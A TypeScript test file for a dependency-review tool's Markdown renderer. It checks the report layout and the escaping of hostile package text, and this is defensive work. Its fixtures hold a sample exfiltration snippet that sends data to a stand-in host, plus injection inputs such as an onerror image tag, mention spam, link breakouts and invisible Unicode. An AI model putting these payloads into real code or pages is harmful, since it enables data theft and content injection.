import type { ReviewErrorCode } from '../../src/model/codes.js';
import { renderMarkdown } from '../../src/report/markdown.js';
import type { Report } from '../../src/model/types.js';
import { changeReport, sampleReport } from '../helpers/report-fixtures.js';
import { markdownProblems, outsideCode } from '../helpers/markdown-check.js';

const POINTER = 'See the job summary for the full report.';

function emptyReport(): Report {
  return { ...sampleReport(), verdict: 'pass', changes: [], errors: [], notes: [], lockfiles: [], counts: { critical: 0, high: 0, medium: 0, low: 0, info: 0, acknowledged: 0 } };
}

describe('renderMarkdown layout', () => {
  const markdown = renderMarkdown(sampleReport(), { marker: '<!-- depdiff -->' });

  test('starts with the marker, the title and the verdict with counts', () => {
    const lines = markdown.split('\n');
    expect(lines[0]).toBe('<!-- depdiff -->');
    expect(lines[1]).toBe('## depdiff dependency review');
    expect(lines[3]).toBe(
      '❌ **Fail**: 1 critical, 3 high, 2 medium, 2 low, 1 info in 7 changed packages (fail-on: high), 1 acknowledged. ❌ incomplete: 1 package could not be reviewed. A tarball could not be read in full: see its findings and read its code yourself.',
    );
  });

  test('is well-formed Markdown', () => {
    expect(markdownProblems(markdown)).toEqual([]);
  });

  test('one table of the packages with medium+ findings comes right after the verdict, worst first', () => {
    const lines = markdown.split('\n');
    expect(lines.slice(5, 10)).toEqual([
      '| Package | Version | Findings |',
      '| --- | --- | --- |',
      '| `event-stream-helper` | `3.3.4` → `3.3.6` | 🟥 Install script, 🟧 Network access, 🟧 Environment harvesting, 🟨 New publisher |',
      '| `chalk` | `5.3.0` → `5.4.1` | 🟧 Runs built code |',
      '| `@acme/logger` | `1.2.0` → `1.3.0` | 🟨 Runs programs |',
    ]);
    expect(markdown.match(/^\| Package \| Version \| Findings \|$/gm)).toHaveLength(1);
  });

  test('has one section per lockfile, findings before each table, packages worst first', () => {
    const npm = markdown.indexOf('### `package-lock.json`');
    const pnpm = markdown.indexOf('### `packages/web/pnpm-lock.yaml`');
    expect(npm).toBeGreaterThan(0);
    expect(pnpm).toBeGreaterThan(npm);
    const critical = markdown.indexOf('#### 🟥 `event-stream-helper` `3.3.4` → `3.3.6`');
    const medium = markdown.indexOf('#### 🟨 `@acme/logger` `1.2.0` → `1.3.0`');
    const low = markdown.indexOf('<details><summary>1 package with low findings only</summary>\n\n- 🟦 `tiny-color` `0.4.1` (added): Recently published: `tiny-color@0.4.1` was published 5 hours ago\\.');
    const table = markdown.indexOf('<details><summary>5 changed packages</summary>');
    expect([critical, medium, low, table].every((index) => index > npm && index < pnpm)).toBe(true);
    expect(critical).toBeLessThan(medium);
    expect(medium).toBeLessThan(low);
    expect(low).toBeLessThan(table);
    expect(markdown.indexOf('#### 🟧 `chalk` `5.3.0` → `5.4.1`')).toBeGreaterThan(pnpm);
    expect(markdown).toContain('<details><summary>2 changed packages</summary>');
  });

  test('low findings of a package with medium+ ones are one line, grouped by kind', () => {
    expect(markdown).toContain('Also 🟦 Deprecated: ');
    expect(markdown).not.toContain('🟦 **low**');
  });

  test('links each location to the npm code view and fences the evidence', () => {
    expect(markdown).toContain('in [`lib/setup.js:4`](https://www.npmjs.com/package/event-stream-helper/v/3.3.6?activeTab=code)');
    expect(markdown).toContain('(https://www.npmjs.com/package/@acme/logger/v/1.3.0?activeTab=code)');
    expect(markdown).toContain("```js\nconst https = require('https');\nhttps.get('https://collect.example.net/?d=' + data);\n```");
    expect(markdown).not.toContain('package.json changes');
    // The job summary's full layout adds the package.json diffs.
    expect(renderMarkdown(sampleReport(), { full: true })).toContain('<details><summary>package.json changes</summary>\n\n```diff\n--- a/package.json');
  });

  test('lists every changed package in the table, including ones without findings', () => {
    expect(markdown).toContain('| `left-pad` | `1.3.0` (removed) | removed | transitive | — |');
    expect(markdown).toContain('| `lodash` | `4.17.20` → `4.17.21` | updated (dev) | transitive | — |');
    expect(markdown).not.toMatch(/#### .*lodash/);
  });

  test('shows acknowledged findings apart, collapsed, with their reason', () => {
    expect(markdown).toContain('<details><summary>1 acknowledged finding</summary>');
    expect(markdown).toMatch(/acknowledged: Opt\\-in telemetry, reviewed by the platform team \(until 2026\\-06\\-30\)/);
    expect(markdown).not.toMatch(/#### .*\n\n.*\n\n.*telemetry\\\.js newly loads/);
  });

  test('lists packages that could not be reviewed, notes, and how to acknowledge', () => {
    expect(markdown).toContain('- `big-binary@2.0.0`: The tarball is larger than 200 MB\\. (`ELIMIT`)');
    expect(markdown).toContain('- The registry omits \\_npmUser');
    // Every failing finding (high and above here), one entry per package.
    expect(markdown).toContain('ignore:\n  - package: "event-stream-helper"\n    version: "3.3.6"\n    kinds: [install-script, network, env]');
    expect(markdown).toContain('  - package: "chalk"\n    version: "5.4.1"\n    kinds: [eval]');
    expect(markdown).not.toMatch(/package: "@acme\/logger"/);
    expect(markdown).toContain('expires: "2026-04-09"');
    expect(markdown).toContain('read from the base branch');
    expect(markdown).toContain('`.github/depdiff.yml`');
  });

  test('the order of the closing sections is notes, errors, acknowledged, legend, how-to', () => {
    const notes = markdown.indexOf('- The registry omits');
    const errors = markdown.indexOf('#### ⚠️ Not reviewed');
    const ack = markdown.indexOf('acknowledged finding</summary>');
    const legend = markdown.indexOf('Why these findings matter');
    const howTo = markdown.indexOf('How to acknowledge 4 failing findings');
    expect([notes, errors, ack, legend, howTo].every((index, i, all) => i === 0 || index > all[i - 1]!)).toBe(true);
  });

  test('a single lockfile gets no lockfile heading', () => {
    const report = sampleReport();
    report.changes = report.changes.filter((change) => change.lockfile === 'package-lock.json');
    expect(renderMarkdown(report)).not.toContain('### package');
  });

  test('options: title, config path and a config change notice', () => {
    const custom = renderMarkdown(sampleReport(), { title: '### Deps', configPath: 'ci/depdiff.yaml', configChanged: true });
    expect(custom.startsWith('### Deps\n')).toBe(true);
    expect(custom).toContain('- This pull request changes `ci/depdiff.yaml`; its changes apply once merged');
    expect(custom).toContain('acknowledge them in `ci/depdiff.yaml`');
  });

  test('a passing review says so', () => {
    const report = sampleReport();
    report.verdict = 'pass';
    expect(renderMarkdown(report)).toMatch(/^## depdiff dependency review\n\n✅ \*\*Pass\*\*: /);
  });

  test('no changes gives a short body', () => {
    expect(renderMarkdown(emptyReport(), { marker: '<!-- depdiff -->' })).toBe('<!-- depdiff -->\n## depdiff dependency review\n\nNo dependency changes.\n');
  });

  test('no how-to section when every finding is acknowledged', () => {
    const report = sampleReport();
    for (const change of report.changes) for (const finding of change.findings) finding.acknowledged = { reason: 'ok' };
    expect(renderMarkdown(report)).not.toContain('How to acknowledge');
  });
});

describe('renderMarkdown with hostile package text', () => {
  const hostile = [
    '<img src=x onerror=alert(1)>',
    '@everyone',
    '[link](http://evil)',
    'multi\nline\n## heading',
    'pipe|in|name',
    '```` evil',
    '`edge`',
    'see #123 and octo/app#7 and GH-12',
    ':rocket: $x^2$ $$ $`y`$',
    'https://evil.example/a www.evil.example a@evil.example',
    '[^1] deadbeefcafe1234',
    'hidden\u200B\u200D\u2060\uFEFF\u202E\u{E0041}\uFE0F\uD800',
  ];
  /** A word GitHub would turn into a link, mention, reference, math or emoji if it reached rendered text. */
  const LIVE = [
    /@everyone/,
    /#(123|7)\b/,
    /GH-12/,
    /:rocket:/,
    /\$/,
    /https?:\/\//,
    /www\.evil/,
    /@evil\.example/,
    /\[\^1\]/,
    /deadbeefcafe/,
    /<img/i,
  ];

  function hostileReport(): Report {
    const report = sampleReport();
    report.changes = hostile.map((name, index) =>
      changeReport(name, '1.0.0', `2.0.0 @everyone #${index}`, [
        {
          kind: 'network',
          severity: 'high',
          message: `contacts [click](http://evil) <img src=x> @everyone | cell | ${name}`,
          file: `lib/\`\`\`/</details>/${name}.js`,
          line: index + 1,
          evidence: `\`\`\`\n</details>\n<img src=x onerror=alert(1)>\n@everyone\n~~~\n\`\`\`\`\n${name}`,
        },
        { kind: 'deprecated', severity: 'low', message: `deprecated: ${name}`, acknowledged: { reason: `<img src=x> @everyone [a](http://evil) ${name}`, expires: '2026-01-01' } },
      ], { worst: 'high', packageJsonDiff: '--- a/package.json\n+++ b/package.json\n+  "postinstall": "```\\n</details>"' }),
    );
    report.errors = [{ name: '@everyone', version: '<img src=x>', message: '[a](http://evil)\n``` #1 @admin $x$', code: 'E`X' as ReviewErrorCode }];
    report.notes = ['The ignore for [a](http://evil) @everyone <img src=x> #5 :tada: has expired.'];
    report.lockfiles = [{ path: 'package-lock.json', format: 'npm', changes: hostile.length }];
    return report;
  }

  function assertSafe(markdown: string): void {
    expect(markdownProblems(markdown)).toEqual([]);
    const rendered = outsideCode(markdown);
    // The only link destinations are npm code views (percent-encoded, never shown as text).
    expect(rendered).not.toMatch(/\]\((?!https:\/\/www\.npmjs\.com\/)/);
    const text = rendered.replace(/\]\(https:\/\/www\.npmjs\.com\/[^\s)]*\)/g, ']');
    for (const live of LIVE) expect(text).not.toMatch(live);
    expect(rendered).not.toMatch(/^#{1,3} (?!depdiff dependency review)/m);
    // depdiff adds no invisible character; the package's own are shown as <U+XXXX>.
    // (The only variation selector allowed is the one in depdiff's own ⚠️.)
    expect(markdown.replaceAll('\u26A0\uFE0F', '')).not.toMatch(/[\u200B-\u200F\u2060\uFEFF\u202A-\u202E\uFE0F]|[\u{E0000}-\u{E007F}]|\p{Cs}/u);
    // Every table row keeps its table's cells: escaped pipes do not split cells. Code spans in cells escape
    // their pipes too (GFM splits on them): only the cell borders stay bare.
    expect(rowsWithWrongCellCount(rendered)).toEqual([]);
    expect(rowsWithWrongCellCount(markdown)).toEqual([]);
  }

  /** Rows whose cell count (bare pipes) differs from their table's delimiter row. */
  function rowsWithWrongCellCount(markdown: string): string[] {
    const cells = (line: string) => line.replace(/\\\|/g, '').split('|').length - 2;
    const lines = markdown.split('\n');
    const wrong: string[] = [];
    let expected = 0;
    for (const [i, line] of lines.entries()) {
      if (!line.startsWith('| ')) continue;
      if (lines[i + 1]?.startsWith('| ---')) expected = cells(lines[i + 1]!);
      if (cells(line) !== expected) wrong.push(line);
    }
    return wrong;
  }

  test('renders no link, image, HTML, heading, mention, reference, math or emoji from package text', () => {
    const markdown = renderMarkdown(hostileReport(), { marker: '<!-- depdiff -->' });
    assertSafe(markdown);
    expect(markdown).toContain('&lt;img src=x onerror=alert\\(1\\)&gt;');
    expect(markdown).toContain('contacts `[click](http://evil)` &lt;img src=x&gt; `@everyone` \\| cell \\|');
    expect(markdown).toContain('#### 🟧 `multi line ## heading`');
    expect(markdown).toContain('| `pipe\\|in\\|name` |');
    expect(markdown.match(/^\| --- \| --- \| --- \|$/m)).not.toBeNull();
    expect(markdown).toContain('#### 🟧 `` `edge` `` `1.0.0` → `2.0.0 @everyone #6`');
    expect(markdown).toContain('`hidden<U+200B><U+200D><U+2060><U+FEFF><U+202E><U+E0041><U+FE0F><U+D800>`');
  });

  test('package names and versions are copyable exactly as published', () => {
    const markdown = renderMarkdown(sampleReport());
    expect(markdown).toContain('#### 🟨 `@acme/logger` `1.2.0` → `1.3.0`');
    expect(markdown).toContain('| `@acme/logger` | `1.2.0` → `1.3.0` |');
    expect(markdown).toContain('- `big-binary@2.0.0`:');
  });

  test('stays safe at every budget level', () => {
    const report = hostileReport();
    const full = renderMarkdown(report).length;
    for (const maxChars of [full - 1, Math.floor(full * 0.7), Math.floor(full * 0.4), 3000, 1500, 600]) {
      const markdown = renderMarkdown(report, { maxChars, overflowPointer: POINTER });
      expect(markdown.length).toBeLessThanOrEqual(maxChars);
      assertSafe(markdown);
    }
  });

  test('a tampered finding URL cannot break out of the link', () => {
    const report = sampleReport();
    report.changes[0]!.findings[0]!.url = 'https://www.npmjs.com/x)[y](http://evil';
    const markdown = renderMarkdown(report);
    expect(outsideCode(markdown)).not.toContain('](http://evil');
    expect(markdown).toContain('https://www.npmjs.com/x%29%5By%5D%28http://evil');
    report.changes[0]!.findings[0]!.url = 'https://evil.example/';
    expect(renderMarkdown(report)).not.toContain('evil.example');
  });
});

test('the structure check used above catches broken Markdown', () => {
  expect(markdownProblems('```\nx')).toEqual(['unclosed fence ```']);
  expect(markdownProblems('````\n```\nx')).toEqual(['unclosed fence ````']);
  expect(markdownProblems('<details>\nx')).toEqual(['1 unclosed <details>']);
  expect(markdownProblems('x\n</details>\n<details>')).toHaveLength(1);
  expect(markdownProblems('````\n```\n</details>\n````\n<details>\n\n</details>')).toEqual([]);
  expect(outsideCode('a `<img>` b\n```\n@everyone\n```')).toBe('a «code» b');
});

test('an added package says in one escaped line what it is for; a nested transitive one says who pulls it in', () => {
  const report = sampleReport();
  report.changes.push(
    changeReport('new-helper', null, '1.0.0', [{ kind: 'network', severity: 'medium', message: 'lib/a.js loads the `https` module.' }], {
      description: 'Helps with <things> @everyone [x](http://evil)',
      after: { ...report.changes[0]!.after!, name: 'new-helper', version: '1.0.0', direct: false, paths: ['node_modules/@acme/logger/node_modules/new-helper'] },
    }),
  );
  const markdown = renderMarkdown(report);
  expect(markdown).toContain('#### 🟨 `new-helper` `1.0.0` (added)\n\nTransitive dependency via `@acme/logger`. What it is: Helps with &lt;things&gt; `@everyone` `[x](http://evil)`');
  expect(markdown).toContain('loads the `https` module\\.');
});
